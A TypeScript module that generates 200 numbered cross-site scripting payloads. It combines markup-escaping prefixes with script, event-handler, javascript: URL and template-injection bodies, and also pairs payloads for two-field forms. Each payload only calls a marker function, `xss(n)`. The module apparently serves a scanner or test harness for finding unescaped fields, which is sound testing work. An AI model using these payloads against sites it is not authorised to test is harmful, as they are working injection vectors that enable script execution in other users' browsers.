/** A text that runs `xss(number)` where a page does not escape it. */
export type Payload = Readonly<{ number: number; text: string }>;

const bodies: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload=${call}//`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<iframe src=javascript:parent.${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<object data=javascript:${call}>`,
  (call) => `<a href=javascript:${call}>x</a>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<math><mtext><img src=x onerror=${call}>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<b tabindex=1 autofocus onfocus=${call}>x</b>`,
  (call) => `javascript:${call}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
];

/** Prefixes that leave the surrounding markup. */
const exits = ['', '">', "'>", '-->', '</title>', '</textarea>', '</style>', '</script>', ']]>', '&lt;b&gt;'];

/** 200 of them; no longer than the shortest field that takes any text. The first ones differ most. */
export const payloads: readonly Payload[] = exits
  .flatMap((exit) => bodies.map((body) => (call: string) => `${exit}${body(call)}`))
  .map((write, index) => ({ number: index + 1, text: write(`xss(${index + 1})`) }));

/** Two at a time, for forms with two fields. */
export const pairsOf = (all: readonly Payload[]): readonly (readonly [Payload, Payload])[] =>
  all.flatMap((first, index) => (index % 2 === 0 ? [[first, all[index + 1] ?? first] as const] : []));
